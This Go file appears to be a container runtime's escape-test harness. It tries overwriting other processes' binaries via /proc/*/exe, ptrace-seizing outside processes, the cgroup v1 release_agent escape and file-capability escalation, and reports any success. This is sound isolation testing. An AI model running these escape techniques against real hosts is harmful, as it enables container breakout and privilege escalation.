package runtime

import (
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// holdBinary opens the program of every process that is not its own, and writes
// to them once it may.
func holdBinary() {
	os.Symlink("/proc/self/exe", "/tmp/sh")
	fmt.Println("ready")
	held := map[string]*os.File{}
	for _, err := os.Stat("/tmp/now"); err != nil; _, err = os.Stat("/tmp/now") {
		all, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range all {
			name, err := os.Readlink(exe)
			if err != nil || held[name] != nil || strings.HasPrefix(name, "/attack") || strings.HasPrefix(name, "/usr/") {
				continue
			}
			if f, err := os.Open(exe); err == nil {
				held[name] = f
				fmt.Println("holding", name)
			}
		}
	}
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		for name, f := range held {
			out, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				continue
			}
			if _, err = out.Write([]byte("!")); err == nil {
				escaped("it wrote to %s", name)
				end = time.Now()
			}
			out.Close()
		}
	}
	fmt.Println("tried")
	unix.Pause()
}

// traceAll takes hold of every process that shows up, and looks whether it has
// more than a container's process has.
func traceAll() {
	runtime.LockOSThread() // which is the tracer
	own := procStatus("CapEff")
	fmt.Println("watching")
	seen := 0
	for _, err := os.Stat("/tmp/now"); err != nil; _, err = os.Stat("/tmp/now") {
		all, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range all {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			if pid == os.Getpid() || unix.PtraceSeize(pid) != nil {
				continue
			}
			unix.PtraceInterrupt(pid)
			seen++
			if _, err := os.Stat(dir + "/root" + os.Args[1]); err == nil {
				escaped("it has the host's root by %s", dir)
			}
			b, _ := os.ReadFile(dir + "/status")
			if caps := "CapEff:\t"; strings.Contains(string(b), caps) && !strings.Contains(string(b), caps+own) {
				escaped("it has hold of a process with capabilities %s", strings.Fields(strings.SplitN(string(b), caps, 2)[1])[0])
			}
			if strings.Contains(string(b), "Seccomp:\t0") {
				escaped("it has hold of a process without a filter")
			}
			var ws unix.WaitStatus
			if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err == nil && ws.Stopped() {
				unix.PtraceDetach(pid)
			}
		}
	}
	fmt.Println("seen", seen)
	unix.Pause()
}

// mountCgroup mounts a cgroup v1 hierarchy of its own, and one that is there, in
// order to have the kernel run a program of the host.
func mountCgroup() {
	agent, name := os.Args[1], os.Args[2]
	if unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS|unix.CLONE_NEWCGROUP) == nil {
		fmt.Println("in a user namespace of its own")
	}
	for _, hierarchy := range []string{"none,name=" + name, "memory", "pids"} {
		if err := unix.Mount("cgroup", "/mnt", "cgroup", 0, hierarchy); err != nil {
			fmt.Println("refused", hierarchy, err)
			continue
		}
		// Those that the host uses too are only looked at: there it would be all
		// of the host that is hit.
		f, err := os.OpenFile("/mnt/release_agent", os.O_WRONLY, 0)
		fmt.Println("release_agent of", hierarchy, err)
		if err == nil && strings.Contains(hierarchy, name) {
			_, err = f.Write([]byte(agent))
			leaveCgroup("/mnt/x")
		}
		if err == nil {
			escaped("it has release_agent of %s", hierarchy)
		}
		f.Close()
		unix.Unmount("/mnt", 0)
	}
}

// leaveCgroup has the last process leave a group that wants to be told of it.
func leaveCgroup(dir string) {
	os.Mkdir(dir, 0o755)
	os.WriteFile(dir+"/notify_on_release", []byte("1"), 0)
	last := exec.Command("sleep", "0.1")
	if last.Start() == nil {
		os.WriteFile(dir+"/cgroup.procs", []byte(strconv.Itoa(last.Process.Pid)), 0)
		last.Wait()
	}
	time.Sleep(100 * time.Millisecond)
	os.Remove(dir)
}

// status is one line of /proc/self/status.
func procStatus(field string) string {
	b, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(b)) {
		if value, ok := strings.CutPrefix(line, field+":"); ok {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

// lookAtCaps makes a program that turns an inheritable capability into a real
// one, and runs it as another user.
func lookAtCaps() {
	defer wait()
	const dacOverride = 1 << unix.CAP_DAC_OVERRIDE
	if os.Args[1] == "gained" {
		if now, _ := strconv.ParseUint(procStatus("CapEff"), 16, 64); now&dacOverride != 0 {
			escaped("user %d has capabilities %x", os.Getuid(), now)
		}
		return
	}
	want := map[string]uint64{"adds": 1 << unix.CAP_NET_BIND_SERVICE}[os.Args[1]]
	if now, err := strconv.ParseUint(procStatus("CapInh"), 16, 64); err != nil || now != want {
		escaped("inheritable capabilities of user %d: %x", os.Getuid(), now)
	}
	if os.Getuid() != 0 {
		return
	}
	self, _ := os.ReadFile("/attack")
	os.WriteFile("/tmp/program", self, 0o755)
	var x [20]byte // struct vfs_cap_data, revision 2, effective
	binary.LittleEndian.PutUint32(x[0:], 0x02000001)
	binary.LittleEndian.PutUint32(x[8:], dacOverride)
	if err := unix.Setxattr("/tmp/program", "security.capability", x[:], 0); err != nil {
		fmt.Println("setxattr:", err)
		return
	}
	cmd := exec.Command("/tmp/program", "gained")
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	fmt.Println(string(out), err)
}
